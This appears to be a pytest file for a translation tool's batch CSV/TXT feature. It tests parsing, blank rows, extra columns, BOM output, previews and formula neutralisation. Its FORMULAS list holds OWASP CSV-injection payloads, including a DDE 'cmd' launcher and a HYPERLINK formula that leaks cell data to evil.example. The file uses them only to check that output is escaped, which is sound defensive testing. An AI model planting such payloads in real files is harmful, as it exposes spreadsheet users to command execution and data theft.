"""Batch files: reading .txt/.csv uploads, per-row errors, blank rows, extra columns, previews, and output
CSVs that spreadsheets cannot run and Excel reads as UTF-8."""

from __future__ import annotations

import csv

import pytest

from model import DecodeOptions, load_source
from model.batch_files import (
    BLANK_ROW, COLUMNS, MAX_BATCH_BYTES, MAX_BATCH_COLUMNS, MAX_BATCH_ROWS, PREVIEW_CELL_CHARS, BatchFileError,
    BatchRow, blank_rows, neutralise, output_columns, preview, read_batch_file, translate_rows, write_results_csv,
)
from model.validation import MAX_PARAGRAPH_CHARS

# Payloads from OWASP's CSV Injection page and the issue: each would run as a formula if written as is.
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(A1)", "-2+3+cmd|' /C calc'!A0",
            "@cmd", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def translator(random_checkpoint):
    return load_source(str(random_checkpoint))


BOM = b"\xef\xbb\xbf"  # UTF-8's byte-order mark


def _read_csv_rows(path) -> list[list[str]]:
    """The output as a spreadsheet would see it: header first; the BOM, when there is one, is not a cell."""
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _read_csv(path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


class Recording:
    """A translator that remembers what was sent to the model."""

    def __init__(self, translator):
        self.translator, self.sent = translator, []

    def translate_batch(self, texts, options=None):
        self.sent.extend(texts)
        return self.translator.translate_batch(texts, options)


def test_read_txt_and_csv(tmp_path):
    txt = tmp_path / "s.txt"
    txt.write_text("Go.\n\nHi.\r\nRun!\n", encoding="utf-8")
    assert [(r.row, r.english, r.error) for r in read_batch_file(txt)] == [
        (1, "Go.", ""), (2, "", BLANK_ROW), (3, "Hi.", ""), (4, "Run!", "")]
    data = tmp_path / "s.csv"
    data.write_text('id,English\n1,"Go."\n2,"Hi, you."\n3,\n', encoding="utf-8")
    assert [(r.row, r.english, r.extra) for r in read_batch_file(data)] == [
        (1, "Go.", {"id": "1"}), (2, "Hi, you.", {"id": "2"}), (3, "", {"id": "3"})]


@pytest.mark.parametrize("name, content, words", [
    ("s.pdf", b"Go.", "s.pdf: upload a .txt"),
    ("s.csv", b"french\nVa !\n", "s.csv: no column named 'english' \\(found: french\\)"),
    ("s.txt", b"\xff\xfeGo.", "s.txt: not UTF-8"),
    ("s.txt", b"\n\n", "s.txt: no sentences"),
    ("s.txt", b"Go.\n" * (MAX_BATCH_ROWS + 1), f"the limit is {MAX_BATCH_ROWS}"),
    ("s.txt", b"a" * (MAX_BATCH_BYTES + 1), "bytes; the limit is"),
])
def test_unusable_files_are_rejected_whole_naming_the_file(tmp_path, name, content, words):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(BatchFileError, match=words):
        read_batch_file(path)


def test_an_over_long_line_is_a_row_error_in_csv_as_in_txt(translator, tmp_path):
    """A field over the csv module's 131,072-character default used to reject the whole .csv."""
    long_line = "a" * 200_000
    as_txt = tmp_path / "long.txt"
    as_txt.write_text(f"Go.\n{long_line}\nHi.\n", encoding="utf-8")
    as_csv = tmp_path / "long.csv"
    as_csv.write_text(f'english\nGo.\n"{long_line}"\nHi.\n', encoding="utf-8")
    for path in (as_txt, as_csv):
        rows = translate_rows(translator, read_batch_file(path), DecodeOptions())
        assert [r.english for r in rows] == ["Go.", long_line, "Hi."]
        assert f"200,000 characters long; the limit is {MAX_PARAGRAPH_CHARS:,}" in rows[1].error and not rows[1].french
        assert rows[0].french == translator.translate("Go.").translation


def test_rows_translate_as_the_translator_does_with_errors_in_their_rows(translator, tmp_path):
    rows = [BatchRow(1, "Go."), BatchRow(2, "Go ü€"), BatchRow(3, "Hi.")]
    progress = []
    translate_rows(translator, rows, DecodeOptions(method="beam", beam_size=3), progress=lambda *a: progress.append(a), chunk=2)
    assert progress == [(2, 3), (3, 3)]
    want = translator.translate("Hi.", DecodeOptions(method="beam", beam_size=3))
    assert rows[2].french == want.translation and rows[2].score == pytest.approx(want.score, abs=1e-4)
    assert "'€'" in rows[1].error and rows[1].french == "" and rows[1].score is None
    path = write_results_csv(rows, tmp_path / "out.csv")
    written = _read_csv(path)
    assert list(written[0]) == ["row", "english", "french", "score", "error"]
    assert [r["row"] for r in written] == ["1", "2", "3"] and written[1]["score"] == ""
    assert float(written[2]["score"]) == rows[2].score  # a negative score stays a number


@pytest.mark.parametrize("payload", FORMULAS)
def test_formula_cells_are_neutralised(payload, tmp_path):
    assert neutralise(payload) == "'" + payload
    rows = [BatchRow(1, payload, french=payload, score=-3.5, error=payload)]
    written = _read_csv(write_results_csv(rows, tmp_path / "out.csv"))[0]
    assert written["english"] == written["french"] == written["error"] == "'" + payload
    assert written["score"] == "-3.5"


@pytest.mark.parametrize("safe", ["Go.", "I'm OK.", " =not first", "a=b", "'quoted", ""])
def test_ordinary_cells_are_written_as_is(safe):
    assert neutralise(safe) == safe


# --- blank rows: kept, reported, never translated ---------------------------------------------------


def test_blank_rows_are_reported_with_their_numbers_and_not_translated(translator, tmp_path):
    txt = tmp_path / "s.txt"
    txt.write_text("Go.\n\n   \nHi.\n\n", encoding="utf-8")
    rows = read_batch_file(txt)
    assert blank_rows(rows) == [2, 3, 5]
    assert [r.error for r in rows if r.blank] == [BLANK_ROW] * 3
    recording = Recording(translator)
    translate_rows(recording, rows, DecodeOptions(), chunk=2)
    assert recording.sent == ["Go.", "Hi."]  # a chunk of blank rows alone never calls the model
    assert rows[3].french == translator.translate("Hi.").translation
    written = _read_csv(write_results_csv(rows, tmp_path / "out.csv"))
    assert [(r["row"], r["french"] == "", r["error"]) for r in written] == [
        ("1", False, ""), ("2", True, BLANK_ROW), ("3", True, BLANK_ROW), ("4", False, ""), ("5", True, BLANK_ROW)]


def test_blank_rows_do_not_count_towards_the_sentence_limit(tmp_path):
    path = tmp_path / "s.txt"
    path.write_text("Go.\n\n" * MAX_BATCH_ROWS, encoding="utf-8")
    rows = read_batch_file(path)
    assert len(rows) == 2 * MAX_BATCH_ROWS and len(blank_rows(rows)) == MAX_BATCH_ROWS


def test_a_csv_row_with_an_empty_english_cell_is_blank_and_keeps_its_other_cells(tmp_path):
    path = tmp_path / "s.csv"
    path.write_text("english,note\nGo.,a\n,kept\n\nHi.,c\n", encoding="utf-8")
    rows = read_batch_file(path)
    assert blank_rows(rows) == [2, 3]  # data row 3 is the empty line: spreadsheet row 4
    assert rows[1].extra == {"note": "kept"} and rows[2].extra == {"note": ""}
    written = _read_csv(write_results_csv(rows, tmp_path / "out.csv"))
    assert [r["note"] for r in written] == ["a", "kept", "", "c"]


# --- extra columns of a .csv: kept after ours, renamed on a clash, neutralised ---------------------


def test_extra_columns_follow_the_output_columns_in_file_order(translator, tmp_path):
    path = tmp_path / "s.csv"
    path.write_text('id,English,french,note\n7,Go.,Va !,"=1+1"\n8,"Ça va ?",Ça va ?,plain\n', encoding="utf-8")
    rows = translate_rows(translator, read_batch_file(path), DecodeOptions())
    assert rows[0].extra == {"id": "7", "french": "Va !", "note": "=1+1"}
    written = _read_csv_rows(write_results_csv(rows, tmp_path / "out.csv"))
    assert written[0] == COLUMNS + ["id", "input_french", "note"]  # the upload's `french` cannot hide ours
    assert written[1][5:] == ["7", "Va !", "'=1+1"]  # extra cells are neutralised too
    assert written[2][1] == "Ça va ?" and written[2][5:] == ["8", "Ça va ?", "plain"]
    assert written[1][2] == translator.translate("Go.").translation


def test_nameless_repeated_and_unheaded_columns_get_unique_names(tmp_path):
    path = tmp_path / "s.csv"
    path.write_text("english,,note,Note,row\nGo.,a,b,c,d,e\nHi.\n", encoding="utf-8")
    rows = read_batch_file(path)
    assert rows[0].extra == {"column_2": "a", "note": "b", "Note_2": "c", "row": "d", "column_6": "e"}
    assert rows[1].extra == {"column_2": "", "note": "", "Note_2": "", "row": "", "column_6": ""}
    assert output_columns(rows) == COLUMNS + ["column_2", "note", "Note_2", "input_row", "column_6"]
    written = _read_csv_rows(write_results_csv(rows, tmp_path / "out.csv"))
    assert [len(line) for line in written] == [10, 10, 10]  # every row as wide as the header


def test_formula_column_names_are_neutralised(tmp_path):
    path = tmp_path / "s.csv"
    path.write_text('english,"=HYPERLINK(""http://x"")"\nGo.,@x\n', encoding="utf-8")
    written = _read_csv_rows(write_results_csv(read_batch_file(path), tmp_path / "out.csv"))
    assert written[0][-1] == "'=HYPERLINK(\"http://x\")" and written[1][-1] == "'@x"


@pytest.mark.parametrize("content, words", [
    ("english" + ",x" * MAX_BATCH_COLUMNS + "\nGo.\n", f"the header has {MAX_BATCH_COLUMNS + 1} columns"),
    ("english\nGo." + ",x" * MAX_BATCH_COLUMNS + "\n", f"data row 1 has {MAX_BATCH_COLUMNS + 1} columns"),
])
def test_too_many_columns_reject_the_file(tmp_path, content, words):
    """One row of commas would otherwise widen every row of the output to its width."""
    path = tmp_path / "wide.csv"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(BatchFileError, match=f"wide.csv: {words}; the limit is {MAX_BATCH_COLUMNS}"):
        read_batch_file(path)


# --- the byte-order mark ----------------------------------------------------------------------------


def test_output_starts_with_a_bom_by_default_and_can_leave_it_out(tmp_path):
    rows = [BatchRow(1, "Coffee.", french="Café.", score=-1.25)]
    with_bom = write_results_csv(rows, tmp_path / "bom.csv").read_bytes()
    without = write_results_csv(rows, tmp_path / "plain.csv", bom=False).read_bytes()
    assert with_bom.startswith(BOM + b"row,english,") and with_bom.count(BOM) == 1
    assert without.startswith(b"row,english,") and with_bom[len(BOM):] == without
    assert "Café.".encode("utf-8") in without  # UTF-8 either way: the BOM only tells Excel so
    assert _read_csv(tmp_path / "bom.csv")[0]["french"] == "Café."


def test_an_uploaded_csv_with_a_bom_reads_its_first_column(tmp_path):
    path = tmp_path / "excel.csv"
    path.write_bytes(BOM + "english,note\nGo.,é\n".encode("utf-8"))
    assert [(r.english, r.extra) for r in read_batch_file(path)] == [("Go.", {"note": "é"})]


# --- the preview ------------------------------------------------------------------------------------


def test_preview_shows_the_first_rows_as_read(tmp_path):
    path = tmp_path / "s.csv"
    long_line = "a" * (PREVIEW_CELL_CHARS + 50)
    path.write_text(f'english,french,note\nGo.,Va !,=x\n,,blank\n"{long_line}",,\nHi.,,\n', encoding="utf-8")
    rows = read_batch_file(path)
    headers, data = preview(rows, n=3)
    assert headers == ["row", "english", "input_french", "note"]  # the output CSV's names
    assert data[:2] == [[1, "Go.", "Va !", "=x"], [2, "", "", "blank"]]  # exact text: a table runs nothing
    assert data[2][1] == "a" * (PREVIEW_CELL_CHARS - 1) + "…" and len(data) == 3
    assert preview(rows)[1][-1][:2] == [4, "Hi."] and preview(rows, n=0)[1] == []


def test_preview_of_results_has_the_output_columns(translator, tmp_path):
    path = tmp_path / "s.txt"
    path.write_text("Go.\n\n", encoding="utf-8")
    rows = translate_rows(translator, read_batch_file(path), DecodeOptions())
    headers, data = preview(rows, results=True)
    assert headers == COLUMNS
    assert data == [[1, "Go.", rows[0].french, rows[0].score, ""], [2, "", "", "", BLANK_ROW]]


def test_a_row_of_several_sentences_is_translated_as_a_paragraph(tmp_path, translator):
    upload = tmp_path / "paragraphs.csv"
    upload.write_text('english\n"Go. Hi, Tom!"\n"Hi.\nWho?"\n', encoding="utf-8")
    rows = translate_rows(translator, read_batch_file(upload), DecodeOptions())
    go, tom, hi, who = (translator.translate(s) for s in ("Go.", "Hi, Tom!", "Hi.", "Who?"))
    assert rows[0].french == f"{go.translation} {tom.translation}"
    assert rows[1].french == f"{hi.translation}\n{who.translation}"  # the cell's line break is kept
    assert rows[0].score == pytest.approx(go.score + tom.score, abs=1e-3)
